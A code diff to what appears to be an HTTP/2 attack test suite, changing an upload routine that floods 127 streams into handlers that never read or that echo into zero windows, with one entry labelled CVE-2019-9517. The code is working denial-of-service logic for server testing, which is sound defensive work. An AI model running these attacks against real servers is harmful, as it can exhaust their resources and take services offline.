@@ -20,16 +20,15 @@ function getLarge(host: Hostile, howMany: number): Octets[] {
 }
 
 /** Uploads on as many streams as servers allow, each of as much as its window takes. */
-async function upload(host: Hostile, path: string, reads: boolean): Promise<void> {
+async function upload(host: Hostile, path: string): Promise<void> {
   const connection = await host.secure()
   const windows = new Windows()
   connection.socket.on('data', (octets: Buffer) => windows.receive(octets))
-  await connection.begin()
+  // What comes back is not let go: only its frames without flow control are read.
+  await connection.begin({ window: 'none' })
   const block = host.request(path, 'POST')
   const streamIds = Array.from({ length: count(host, 127) }, (_, index) => 1 + 2 * index)
   await connection.send(...streamIds.map((streamId) => headers(streamId, block, { end: false })))
-  if (!reads) await host.sleep(50)
-  if (!reads) connection.pause()
   const frame = new Uint8Array(16_384)
   while (connection.isOpen) {
     const sending = streamIds.filter((streamId) => windows.of(streamId) > 0)
@@ -126,7 +125,7 @@ export const FLOW_CONTROL: readonly Attack[] = [
     sends: 'Uploads on 127 streams to handlers that do not read them, as much as the windows take.',
     needs: ['application', 'waiting-handlers'],
     rate: UPLOADS,
-    run: (host) => upload(host, '/never-reads', true),
+    run: (host) => upload(host, '/never-reads'),
   },
   {
     name: 'uploads-unread-small-frames',
@@ -148,12 +147,12 @@ export const FLOW_CONTROL: readonly Attack[] = [
     },
   },
   {
-    name: 'upload-echoes-unread',
+    name: 'upload-echoes',
     advisory: 'CVE-2019-9517',
-    sends: 'Uploads that are echoed, from a client that does not read.',
+    sends: 'Uploads on 127 streams that are echoed into windows of zero.',
     needs: ['application', 'waiting-handlers'],
     rate: UPLOADS,
-    run: (host) => upload(host, '/echo', false),
+    run: (host) => upload(host, '/echo'),
   },
   {
     name: 'window-flaps',
